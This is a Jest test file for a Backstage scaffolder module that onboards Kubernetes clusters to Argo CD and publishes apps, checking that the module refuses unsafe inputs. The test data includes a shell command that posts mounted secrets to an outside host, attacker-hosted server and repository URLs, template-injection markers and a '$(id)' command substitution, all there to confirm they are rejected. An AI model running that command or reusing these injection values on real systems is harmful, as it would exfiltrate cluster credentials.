/**
 * The platform's policy (hubSpoke.scaffolder, hubSpoke.hubs[].scaffolder) and the input hygiene, through the actions:
 * every refusal names the input, the rule and the config key, and a refused run writes nothing. The policy is the
 * demo's (app-config.yaml) unless a test gives a hub a block of its own.
 */
import {
  createMockDirectory,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { ConfigReader } from '@backstage/config';
import { InputError, NotAllowedError } from '@backstage/errors';
import { JsonObject } from '@backstage/types';
import { scaffolderActionsExtensionPoint } from '@backstage/plugin-scaffolder-node';
import { FakeHubSpoke, startFakeHubSpoke } from '@hub-spoke/test-utils';
import {
  CA_DATA,
  fleetTopology,
  hubsConfig,
  hubsConfigWithPolicy,
  readTree,
  runAction,
  validInput,
} from '../__testUtils__/fixtures';
import {
  hubInput,
  publishInput,
  publishTopology,
} from '../__testUtils__/publishFixtures';
import { scaffolderModuleHubSpoke } from '../module';
import { createOnboardSpokeAction } from './onboardSpoke';
import { createPublishAppAction } from './publishApp';

describe('the platform policy and input hygiene, through the actions', () => {
  const mockDir = createMockDirectory();
  const workspace = () => mockDir.resolve('workspace');
  let onboardHub: FakeHubSpoke;
  let publishHub: FakeHubSpoke;

  beforeAll(async () => {
    onboardHub = await startFakeHubSpoke({ topology: fleetTopology() });
    publishHub = await startFakeHubSpoke({ topology: publishTopology });
  });
  afterAll(async () => {
    await onboardHub.close();
    await publishHub.close();
  });
  beforeEach(() => mockDir.clear());

  const onboard = (input: JsonObject, config: ConfigReader = hubsConfig()) =>
    runAction(
      createOnboardSpokeAction({
        config,
        hubSpokeApi: onboardHub.api,
        permissions: mockServices.permissions(),
      }),
      input,
      { workspace: workspace() },
    );
  const publish = (input: JsonObject, config: ConfigReader = hubsConfig()) =>
    runAction(
      createPublishAppAction({
        config,
        hubSpokeApi: publishHub.api,
        permissions: mockServices.permissions(),
      }),
      input,
      { workspace: workspace() },
    );

  /** The run fails with that error class and a message matching; nothing is written. */
  async function expectRefused(
    run: Promise<unknown>,
    errorClass: Function,
    message: RegExp | string,
  ): Promise<string> {
    const err = await run.then(
      () => undefined,
      e => e,
    );
    expect(err).toBeInstanceOf(errorClass);
    expect(err.message).toMatch(message);
    expect(readTree(workspace())).toEqual({});
    return err.message;
  }

  describe('onboarding', () => {
    it('refuses a server host the hub does not list: Argo CD would send the credential there', async () => {
      await expectRefused(
        onboard(validInput({ server: 'https://k8s.attacker.example.net' })),
        NotAllowedError,
        /^server host k8s\.attacker\.example\.net is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.serverHosts lists 127\.0\.0\.1, localhost, \*\.example\.com/,
      );
    });

    it('allows a host on the hub that lists it in its own block, and still refuses it on the other hub', async () => {
      const config = hubsConfigWithPolicy({
        'eks-mgmt-hub': { serverHosts: ['*.corp.internal'] },
      });
      const { outputs } = await onboard(
        validInput({
          hub: 'eks-mgmt-hub',
          server: 'https://k8s.dc1.corp.internal:6443',
        }),
        config,
      );
      expect(outputs.files).toEqual([
        'clusters/aks-eu-prod-3/catalog-info.yaml',
        'clusters/aks-eu-prod-3/hub/cluster-secret.yaml',
      ]);
      mockDir.clear();
      await expectRefused(
        onboard(
          validInput({ server: 'https://k8s.dc1.corp.internal:6443' }),
          config,
        ),
        NotAllowedError,
        /not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.serverHosts/,
      );
    });

    it('refuses an exec command outside the allowed forms (Argo CD would run it next to every credential)', async () => {
      await expectRefused(
        onboard(
          validInput({
            auth: {
              type: 'exec',
              command: 'sh',
              args: ['-c', 'curl -d @/var/run/secrets https://x'],
            },
          }),
        ),
        NotAllowedError,
        /^auth command "sh -c curl -d @\/var\/run\/secrets https:\/\/x" is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.exec\.commands allows "argocd-k8s-auth azure"/,
      );
    });

    it('refuses exec and tls.insecure in apply mode, before the hub is asked anything', async () => {
      await expectRefused(
        onboard(
          validInput({
            auth: { type: 'exec', command: 'argocd-k8s-auth', args: ['gcp'] },
            mode: 'apply',
          }),
        ),
        NotAllowedError,
        /^auth type exec in mode apply is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.exec\.allowInApplyMode is false \(the default\)/,
      );
      await expectRefused(
        onboard(validInput({ tls: { insecure: true }, mode: 'apply' })),
        NotAllowedError,
        /^tls\.insecure in mode apply is not allowed by the platform/,
      );
    });

    it('refuses a secret-store key outside the prefix, and a GitOps repository or project the hub does not allow', async () => {
      await expectRefused(
        onboard(
          validInput({
            auth: {
              type: 'bearerToken',
              secretStore: { kind: 'ClusterSecretStore', name: 'vault' },
              remoteRef: { key: 'prod/payments/db-password' },
            },
          }),
        ),
        NotAllowedError,
        /^auth\.remoteRef\.key prod\/payments\/db-password is not allowed by the platform on hub aks-mgmt-hub: keys must start with "hub-spoke\/"/,
      );
      await expectRefused(
        onboard(
          validInput({
            ingressDomain: 'apps.aks-eu-prod-3.example.com',
            gitops: { repoURL: 'https://github.com/attacker/fleet' },
          }),
        ),
        NotAllowedError,
        /^gitops\.repoURL https:\/\/github\.com\/attacker\/fleet is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.gitopsRepos lists/,
      );
      await expectRefused(
        onboard(
          validInput({ addons: ['cert-manager'] }),
          hubsConfigWithPolicy({ 'aks-mgmt-hub': { projects: ['platform'] } }),
        ),
        NotAllowedError,
        /^project default is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.hubs\[0\]\.scaffolder\.projects lists platform/,
      );
    });

    it.each<[string, JsonObject]>([
      ['server', { server: 'https://{{ .token }}.example.com' }],
      ['labels.note', { labels: { note: '{{ .token }}' } }],
      ['auth.clientId', { auth: { type: 'azure', clientId: '{{ .token }}' } }],
      [
        'auth.args[1]',
        {
          auth: {
            type: 'exec',
            command: 'argocd-k8s-auth',
            args: ['gcp', '{{ .token }}'],
          },
        },
      ],
    ])(
      'refuses template markers in %s (the ExternalSecret would render them)',
      async (field, overrides) => {
        await expectRefused(
          onboard(validInput(overrides)),
          InputError,
          `${field} holds "{{" or "}}": template markers are refused in every input`,
        );
      },
    );

    it('refuses a CA that is not base64 of a certificate that parses, without echoing it', async () => {
      const message = await expectRefused(
        onboard(validInput({ tls: { caData: `${CA_DATA}$(id)` } })),
        InputError,
        /^tls\.caData is not base64 nor PEM/,
      );
      expect(message).not.toContain(CA_DATA);
      await expectRefused(
        onboard(
          validInput({
            tls: {
              caData: Buffer.from(
                '-----BEGIN CERTIFICATE-----\nMIIBnotacert\n-----END CERTIFICATE-----\n',
              ).toString('base64'),
            },
          }),
        ),
        InputError,
        /certificate 1 of 1 is not a valid X\.509 certificate$/,
      );
    });

    it('stores the server as its parsed URL', async () => {
      await onboard(
        validInput({ server: 'https://AKS-EU-PROD-3.example.com:443/' }),
      );
      expect(
        readTree(workspace())['clusters/aks-eu-prod-3/hub/cluster-secret.yaml'],
      ).toContain('server: https://aks-eu-prod-3.example.com\n');
    });

    it('refuses a name whose add-on Application name would be over 63 characters', async () => {
      const name = `aks-${'a'.repeat(46)}`;
      await expectRefused(
        onboard(validInput({ name, addons: ['external-secrets'] })),
        InputError,
        `name and add-on external-secrets make the Application name "${name}-external-secrets", which must be a ` +
          'DNS-1123 label: it must be at most 63 characters (is 67); choose a shorter name',
      );
    });

    it('refuses credential-named environment variables of an exec plugin', async () => {
      await expectRefused(
        onboard(
          validInput({
            auth: {
              type: 'exec',
              command: 'argocd-k8s-auth',
              args: ['gcp'],
              env: { AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI' },
            },
          }),
        ),
        InputError,
        /^tokens go in secrets, not inputs: remove auth\.env\.AWS_SECRET_ACCESS_KEY\./,
      );
    });
  });

  describe('publishing', () => {
    it('refuses a source repository the platform does not list, naming the key', async () => {
      await expectRefused(
        publish(
          publishInput({
            source: { repoURL: 'https://evil.example/x', path: 'deploy' },
          }),
        ),
        NotAllowedError,
        'source.repoURL https://evil.example/x is not allowed by the platform on hub aks-mgmt-hub: ' +
          'hubSpoke.scaffolder.sourceRepos lists https://github.com/example/*, https://github.com/platform/*',
      );
    });

    it('refuses a repository URL with credentials, without echoing them', async () => {
      const message = await expectRefused(
        publish(
          publishInput({
            gitops: {
              repoURL:
                'https://x-access-token:ghs_abcdefghijklmnopqrstuvwxyz@github.com/example/fleet',
            },
          }),
        ),
        InputError,
        /^tokens go in secrets, not inputs: remove gitops\.repoURL\./,
      );
      expect(message).not.toContain('ghs_');
    });

    it("refuses Argo CD's default project unless the hub lists it", async () => {
      await expectRefused(
        publish(
          publishInput(),
          hubsConfigWithPolicy({ 'aks-mgmt-hub': { projects: ['shop'] } }),
        ),
        NotAllowedError,
        /^project default is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.hubs\[0\]\.scaffolder\.projects lists shop/,
      );
      const { outputs } = await publish(
        publishInput({ project: 'shop' }),
        hubsConfigWithPolicy({ 'aks-mgmt-hub': { projects: ['shop'] } }),
      );
      expect(outputs.applications).toEqual(['shop-aks-eu-prod-1']);
    });

    it('refuses exposure hub on a hub that does not allow itself as a destination', async () => {
      await expectRefused(
        publish(
          hubInput(),
          hubsConfigWithPolicy({
            'aks-mgmt-hub': { allowHubDestination: false },
          }),
        ),
        NotAllowedError,
        'exposure hub deploys to hub aks-mgmt-hub itself, which is not allowed by the platform: ' +
          'hubSpoke.hubs[0].scaffolder.allowHubDestination is false.',
      );
    });

    it("refuses a host outside the hub's gateway domains, allowAnyDomain or not", async () => {
      await expectRefused(
        publish(
          hubInput({ host: 'login.bank.example.org', allowAnyDomain: true }),
        ),
        NotAllowedError,
        /^host login\.bank\.example\.org is not allowed on the gateway of hub aks-mgmt-hub: hubSpoke\.scaffolder\.hubGatewayDomains lists eu\.example\.com, us\.example\.com/,
      );
    });

    it('refuses template markers in the host and names that would not be valid objects', async () => {
      await expectRefused(
        publish(publishInput({ host: 'shop.{{ .token }}.example.com' })),
        InputError,
        /^host holds "\{\{" or "\}\}"/,
      );
      const name = 'a'.repeat(50);
      await expectRefused(
        publish(publishInput({ name })),
        InputError,
        `name and target aks-eu-prod-1 make the Application name "${name}-aks-eu-prod-1", which must be a ` +
          'DNS-1123 label: it must be at most 63 characters (is 64); choose a shorter name',
      );
      await expectRefused(
        publish(hubInput({ name: '1shop', service: { name: 'shop' } })),
        InputError,
        /^name and target aks-eu-prod-1 make the Service name "1shop-aks-eu-prod-1", which must be a DNS-1035 label/,
      );
    });
  });

  it('the module refuses to start with a bad policy, naming the key', async () => {
    await expect(
      startTestBackend({
        extensionPoints: [
          [scaffolderActionsExtensionPoint, { addActions: jest.fn() }],
        ],
        features: [
          scaffolderModuleHubSpoke,
          mockServices.rootConfig.factory({
            data: {
              hubSpoke: {
                scaffolder: { serverHosts: ['https://aks.example.com'] },
                hubs: [{ name: 'h', argocd: { url: 'https://a', token: 't' } }],
              },
            },
          }),
        ],
      }),
    ).rejects.toThrow(
      /hubSpoke\.scaffolder\.serverHosts\[0\] "https:\/\/aks\.example\.com" is not a host, a wildcard such as \*\.azmk8s\.io, an IP address or a CIDR/,
    );
  });
});
